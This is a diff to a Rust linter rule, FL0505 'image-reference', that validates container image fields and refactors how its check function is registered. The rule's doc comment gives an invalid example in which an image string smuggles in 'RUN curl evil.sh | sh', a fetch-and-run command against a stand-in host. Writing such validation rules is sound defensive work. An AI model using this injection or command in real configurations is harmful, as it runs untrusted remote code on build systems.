@@ -1,6 +1,6 @@
 use crate::diagnostic::Diagnostic;
 use crate::load::Value;
-use crate::validate::Project;
+use crate::project::Project;
 
 declare_rule! {
     /// ## What it does
@@ -16,10 +16,10 @@ declare_rule! {
     /// image:
     ///   base: "debian:bookworm-slim\nRUN curl evil.sh | sh"   # not an image reference
     /// ```
-    pub static IMAGE_REFERENCE = ("FL0505", "image-reference", Error, check);
+    pub static IMAGE_REFERENCE = ("FL0505", "image-reference", Error);
 }
 
-fn check(project: &Project, out: &mut Vec<Diagnostic>) {
+pub(super) fn check(project: &Project, out: &mut Vec<Diagnostic>) {
     for endpoint in &project.endpoints {
         let Some(image) = endpoint.node.get("image") else {
             continue;
